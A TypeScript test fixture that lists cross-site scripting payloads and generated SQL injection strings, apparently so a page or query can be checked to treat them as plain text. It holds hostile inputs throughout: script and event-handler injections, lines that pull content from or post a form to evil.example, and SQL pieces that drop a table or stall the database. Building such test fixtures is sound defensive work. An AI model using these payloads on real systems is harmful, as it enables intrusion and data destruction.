// Markup and SQL that others would like to see run: what a page or a statement may take for words and for nothing else.

const inert = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '{"@type":"x"}</script><b>',
]
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onclick',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
].flatMap((on) => [`<img src=x ${on}=alert(1)>`, `" ${on}="alert(1)" x="`])
const holders = [
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"</style>',
  '<div style="background:url(//evil.example/x)">',
  '<form action="//evil.example"><input name="key"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<video poster="//evil.example/x"><source src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<xss-element onclick=alert(1)>',
  '<marquee onstart=alert(1)>',
]
const addresses = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '[x](javascript:alert(1))',
  '![x](//evil.example/x.png)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the piece.
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
]
export const hostilePieces: readonly string[] = [...inert, ...handlers, ...holders, ...addresses]

const endings = ["'", '"', "')", "'))", "';", '1', "%'", '$$', "\\'", 'x’']
const tails = [
  ' or 1=1 --',
  '; drop table story; --',
  ' union select null, version() --',
  '; update article set level = $1; --',
  ' and pg_sleep(5) --',
]
/** Fifty: every ending with every tail. */
export const sqlPieces: readonly string[] = endings.flatMap((end) => tails.map((tail) => end + tail))
